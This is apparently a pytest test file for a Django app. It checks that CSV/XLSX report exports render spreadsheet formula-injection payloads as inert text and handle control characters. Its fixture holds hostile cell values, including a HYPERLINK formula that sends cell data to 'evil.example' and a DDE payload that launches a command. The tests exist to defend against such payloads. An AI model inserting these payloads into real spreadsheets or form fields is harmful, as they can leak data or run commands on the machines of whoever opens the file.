"""Issue 13, findings 3 and 6: every CSV/XLSX export writes hostile text as inert text and
survives control characters; ``manage.py export_report`` writes what the report page does."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.core.management import CommandError, call_command
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from exercises.models import Decision
from scenarios.formats.cells import append_xlsx_row, csv_text, looks_like_formula
from scenarios.models import Prompt
from scoring.models import ImprovementItem, ReportExport
from scoring.services import export_run, report_compute
from tests import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = {
    "text": HYPERLINK,
    "rationale": DDE,
    "question": "+1+1 which?",
    "observation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "recommendation": "-2+3",
    "corrective_action": "  =1+1",
    "point_of_contact": "\t=1",
}


@pytest.fixture
def hostile(db, alice):
    exercise, _ = factories.make_played_exercise(facilitator=alice)
    Decision.objects.filter(exercise=exercise).update(
        text=HOSTILE["text"], rationale=HOSTILE["rationale"]
    )
    Prompt.objects.filter(scenario=exercise.scenario).update(question=HOSTILE["question"])
    report_compute(exercise=exercise)
    fields = ("observation", "recommendation", "corrective_action", "point_of_contact")
    ImprovementItem.objects.filter(exercise=exercise).update(**{f: HOSTILE[f] for f in fields})
    return exercise


def export(code: str, fmt: str, tmp_path) -> bytes:
    path = tmp_path / f"report.{fmt}"
    call_command("export_report", code, "--format", fmt, "-o", str(path), stdout=io.StringIO())
    return path.read_bytes()


def test_it_writes_hostile_text_as_text_in_xlsx(hostile, tmp_path) -> None:
    book = load_workbook(io.BytesIO(export(hostile.code, "xlsx", tmp_path)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    by_value = {cell.value: cell for cell in cells}
    for value in HOSTILE.values():
        assert by_value[value].data_type == "s", value
        assert by_value[value].quotePrefix, value


def test_it_quotes_hostile_text_in_csv(hostile, tmp_path) -> None:
    with zipfile.ZipFile(io.BytesIO(export(hostile.code, "csv", tmp_path))) as archive:
        cells = {
            cell
            for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode()))
            for cell in row
        }
    for value in HOSTILE.values():
        assert f"'{value}" in cells, value
    assert not any(looks_like_formula(cell) for cell in cells)


def test_it_exports_a_rationale_with_control_characters(hostile, tmp_path) -> None:
    # \x07 and \x1b pass every form and database (NUL never does: Django's forms refuse it
    # and PostgreSQL cannot store it); openpyxl refuses both in a cell.
    Decision.objects.filter(exercise=hostile).update(rationale="ring\x07 the bell\x1b")
    book = load_workbook(io.BytesIO(export(hostile.code, "xlsx", tmp_path)))
    assert "ring the bell" in [cell.value for row in book["Decisions"].iter_rows() for cell in row]
    # JSON holds any text: it keeps what was typed.
    decisions = json.loads(export(hostile.code, "json", tmp_path))["decisions"]
    assert decisions[0]["rationale"] == "ring\x07 the bell\x1b"


def test_a_failed_export_never_echoes_what_a_player_typed(hostile, alice, monkeypatch) -> None:
    def fail(report):
        raise ValueError(f"cannot write {HYPERLINK}")

    monkeypatch.setattr("scoring.exports.xlsx.render", fail)
    item = ReportExport.objects.create(exercise=hostile, format="xlsx", requested_by=alice)
    export_run(export_id=item.id)
    item.refresh_from_db()
    assert item.status == "failed"
    assert item.error == "The export could not be made (ValueError)."


@hypothesis_settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r \n\x07\x00ab1(|'"), max_size=12))
def test_no_cell_text_reaches_a_spreadsheet_as_a_formula(text: str) -> None:
    sheet = Workbook().active
    append_xlsx_row(sheet, [text])
    cell = sheet.cell(1, 1)
    assert cell.data_type != "f"
    if looks_like_formula(cell.value or ""):
        assert cell.quotePrefix
    [[written]] = csv.reader(io.StringIO(csv_text([[text]])))
    assert not looks_like_formula(written)


@pytest.mark.parametrize("fmt", ["pdf", "json"])
def test_it_exports_every_format(hostile, tmp_path, fmt) -> None:
    assert export(hostile.code, fmt, tmp_path)[:4] in {b"%PDF", b"{\n  "}


def test_it_refuses_an_unknown_code(db, tmp_path) -> None:
    with pytest.raises(CommandError, match="No exercise with code nope"):
        call_command("export_report", "nope", "--format", "json", "-o", str(tmp_path / "x"))


def test_it_refuses_an_unknown_format(hostile, tmp_path) -> None:
    with pytest.raises(CommandError, match="invalid choice: 'doc'"):
        call_command("export_report", hostile.code, "--format", "doc", "-o", str(tmp_path / "x"))
